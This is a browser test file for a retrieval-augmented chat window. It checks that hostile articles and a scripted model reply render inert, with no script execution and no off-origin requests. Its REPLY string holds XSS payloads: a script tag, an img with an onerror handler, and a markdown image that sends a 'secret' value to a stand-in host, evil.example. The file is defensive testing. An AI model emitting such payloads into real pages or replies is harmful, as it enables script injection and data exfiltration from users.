"""Hostile articles in a real browser: the 200 generated articles of tests/test_hostile.py, served by
the chat window (ui.py) and shown in Debian's Chromium through Playwright.

* Enough questions are asked that the sources panel renders passages of (nearly) every hostile
  article; each card's title is shown as the literal text of the article's title (markup and all)
  and its highlighted span is a verbatim quote of that article.
* Throughout, the page makes no request beyond its origin, no script runs (no dialog, no
  ``window.__pwned``, no content-security-policy violation, no navigation), and no element comes
  from article text: our answer and source containers hold only the window's own tags, and the whole
  document has no ``javascript:`` link and no element with a remote ``src``.
* A scripted reply of the local OpenAI-compatible server (tests/openai_server.py) carrying a remote
  markdown image and a raw ``<img>`` is shown as text, fetches nothing, and is the answer shown
  (labelled ``openai:test-model``, no fallback).

The index uses rag.embedding.HashingEmbedder (deterministic, no model) so 200 articles are indexed
in seconds; what is under test is rendering, not retrieval quality (tests/test_hostile.py runs the
same corpus with the real model).
"""
from __future__ import annotations

import re
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from openai_server import openai_server  # noqa: F401 - the fixture is used by name
from test_hostile import CANARY, N_HOSTILE, write_hostile_corpus
from test_ui import WAIT_MS, ask, assert_same_origin, browser, open_app, start  # noqa: F401 - browser is a fixture

import rag
from rag.embedding import HashingEmbedder

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

pytestmark = [pytest.mark.browser, pytest.mark.slow,
              pytest.mark.filterwarnings("ignore:.*no_silent_downcasting", "ignore:The copy keyword")]

EVENT = re.compile(r"The (.+?) (food festival|harbour regatta|chess open|choir contest|kite fair|book market) "
                   r"drew (\d+) visitors")
MIN_ARTICLES_SHOWN = 190

# Installed before any page script: records every content-security-policy violation.
INIT_SCRIPT = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""

# Everything the page could have been made to do by article or reply text, in one evaluation.
DOM_CHECK = """() => {
  const ours = new Set(['DIV', 'SPAN', 'BR', 'MARK', 'H3', 'P', 'ARTICLE', 'BLOCKQUOTE']);
  const attrs = new Set(['class', 'id', 'title', 'data-question']);
  const bad = [];
  for (const root of document.querySelectorAll('.rag-answer, .rag-user, .rag-sources')) {
    for (const e of root.querySelectorAll('*')) {
      if (!ours.has(e.tagName)) bad.push('tag ' + e.outerHTML.slice(0, 120));
      for (const a of e.attributes) if (!attrs.has(a.name)) bad.push('attr ' + a.name + ' on ' + e.tagName);
    }
  }
  for (const e of document.querySelectorAll('[href]')) {
    if (/^\\s*javascript:/i.test(e.getAttribute('href'))) bad.push('javascript link ' + e.outerHTML.slice(0, 120));
  }
  for (const e of document.querySelectorAll('[src], [srcset], [data], [action], [formaction], [poster]')) {
    for (const name of ['src', 'data', 'action', 'formaction', 'poster']) {
      const v = e.getAttribute(name);
      if (v === null) continue;
      const u = new URL(v, location.href);
      if (!['data:', 'blob:', 'about:'].includes(u.protocol) && u.origin !== location.origin)
        bad.push('remote ' + name + ' ' + e.outerHTML.slice(0, 120));
    }
    if (e.hasAttribute('srcset')) bad.push('srcset ' + e.outerHTML.slice(0, 120));
  }
  return {bad, pwned: typeof window.__pwned, csp: window.__csp, href: location.href,
          evil: document.body.innerHTML.includes('evil.example')};
}"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    d = tmp_path_factory.mktemp("browser_hostile")
    files = write_hostile_corpus(d / "news")
    engine = rag.Engine(settings=rag.Settings(index_dir=d / "index", seeds_dir=None, progress=False, top_k=20,
                                              llm="extractive"), embedder=HashingEmbedder())
    report = engine.ingest([d / "news"], progress=False)
    assert engine.stats().articles == N_HOSTILE + 4, report
    articles = {}
    for i, f in enumerate(files):
        raw = f.read_text(encoding="utf-8")
        town, event, visitors = EVENT.search(raw).groups()
        title = raw.splitlines()[1].removeprefix("# ")
        assert CANARY in raw and "evil.example" in title + raw
        articles[f.name] = SimpleNamespace(i=i, raw=raw, title=title, town=town, event=event, visitors=visitors)
    yield SimpleNamespace(dir=d, engine=engine, articles=articles)
    engine.close()


@pytest.fixture(scope="module")
def served(hostile):
    app, url = start(hostile.engine)
    yield url
    app.close()


class Recorder:
    """A fresh page that records requests, dialogs and console policy messages."""

    def __init__(self, browser, origin: str):
        self.origin = origin
        self.ctx = browser.new_context(viewport={"width": 1400, "height": 900})
        self.ctx.add_init_script(INIT_SCRIPT)
        self.page = self.ctx.new_page()
        self.page.set_default_timeout(WAIT_MS)
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.console_csp: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("console", lambda m: "Content Security Policy" in m.text and self.console_csp.append(m.text))

    def check(self) -> dict:
        """Nothing ran, nothing was fetched elsewhere, no element came from untrusted text."""
        state = self.page.evaluate(DOM_CHECK)
        assert state["bad"] == [], state["bad"][:10]
        assert state["pwned"] == "undefined"
        assert state["csp"] == [] and self.console_csp == [], (state["csp"], self.console_csp)
        assert state["href"].startswith(self.origin + "/"), state["href"]  # no location= redirect
        assert self.dialogs == [], self.dialogs
        assert_same_origin(self.requests, self.origin)
        return state

    def close(self) -> None:
        self.ctx.close()


def shown_cards(pg) -> list[dict]:
    return pg.evaluate("""() => Array.from(document.querySelectorAll('#rag-sources-panel .rag-src')).map(c => ({
        title: c.querySelector('.rag-title').innerText,
        source: c.querySelector('.rag-source').innerText,
        mark: c.querySelector('.rag-passage mark') ? c.querySelector('.rag-passage mark').innerText : null,
        passage: c.querySelector('.rag-passage').innerText}))""")


def squash(text: str) -> str:
    return " ".join(text.split())


def test_all_hostile_articles_render_inert_in_the_sources_panel(browser, served, hostile):
    rec = Recorder(browser, served)
    pg = rec.page
    t0 = time.monotonic()
    open_app(pg, served)
    assert f"{N_HOSTILE + 4} articles" in pg.inner_text("#rag-stats")
    shown: set[str] = set()  # hostile files whose passage the panel displayed, title and quote verified
    questions = cards_seen = with_payload = 0
    for name, art in hostile.articles.items():
        if name in shown:
            continue
        question = f"What happened at the {art.town} {art.event} that drew {art.visitors} visitors?"
        if questions:
            pg.click("#rag-new")
            pg.wait_for_function("document.querySelectorAll('#rag-chat .rag-answer').length === 0")
        answer = ask(pg, question, 1)
        questions += 1
        assert CANARY not in answer
        for card in shown_cards(pg):
            cards_seen += 1
            source = hostile.articles.get(card["source"])
            if source is None:  # a seed article
                continue
            # the title is shown as the article's literal text: the markup did not become elements
            assert card["title"] == source.title, (card["title"], source.title)
            assert card["mark"] and squash(card["mark"]) in squash(source.raw), card
            with_payload += "evil.example" in card["passage"] or "<" in card["passage"]
            shown.add(card["source"])
        rec.check()  # after every answer: the panel changed, so does what it could have smuggled in
    pg.hover("#rag-sources-panel .rag-src")  # an onmouseover handler would fire now, had one survived
    pg.wait_for_timeout(500)
    state = rec.check()
    elapsed = time.monotonic() - t0
    print(f"\n{questions} questions in {elapsed:.0f} s; {cards_seen} source cards; "
          f"{len(shown)}/{N_HOSTILE} hostile articles shown; {with_payload} passages showing markup as text; "
          f"{len(rec.requests)} requests, all same-origin")
    assert len(shown) >= MIN_ARTICLES_SHOWN, sorted(set(hostile.articles) - shown)
    assert with_payload >= MIN_ARTICLES_SHOWN  # the hostile markup was displayed (as text), not stripped
    assert state["evil"]  # ... and is in the page right now, inert
    rec.close()


REPLY = ('Organisers said the festival drew visitors [1]. ![x](http://evil.example/leak.png?d=secret) '
         '<img src="http://evil.example/a.png" onerror="window.__pwned=1"> '
         '<script>window.__pwned=2</script>')


def test_llm_reply_with_remote_image_renders_inert(browser, hostile, openai_server):
    settings = hostile.engine.settings.with_(llm="openai", llm_base_url=openai_server.url + "/v1",
                                             llm_api_key="test", llm_model="test-model", llm_timeout=10)
    engine = rag.Engine(settings=settings, embedder=hostile.engine.embedder)
    app, url = start(engine)
    rec = Recorder(browser, url)
    try:
        pg = rec.page
        open_app(pg, url)
        assert "openai:test-model" in pg.inner_text("#rag-backend")
        openai_server.enqueue(REPLY)
        question = "What did the organisers of the Quuxtown food festival say?"
        answer = ask(pg, question, 1)
        pg.wait_for_timeout(1000)  # give an injected image or handler the chance to fire
        # the model was asked, and its reply (not a fallback) is what the window shows, as text
        assert len(openai_server.requests) == 1
        assert openai_server.requests[0]["messages"][-1]["content"].endswith(question)
        backend = pg.inner_text("#rag-backend")
        assert "openai:test-model" in backend and "fallback" not in backend, backend
        assert "![x](http://evil.example/leak.png?d=secret)" in answer, answer
        assert '<img src="http://evil.example/a.png" onerror="window.__pwned=1">' in answer, answer
        assert "<script>window.__pwned=2</script>" in answer, answer
        assert "[1]" in answer and pg.locator("#rag-sources-panel .rag-src").count() >= 1
        assert pg.locator("img[src*='evil.example']").count() == 0
        rec.check()
        assert not any("evil.example" in u for u in rec.requests)
    finally:
        rec.close()
        app.close()
        engine.close()
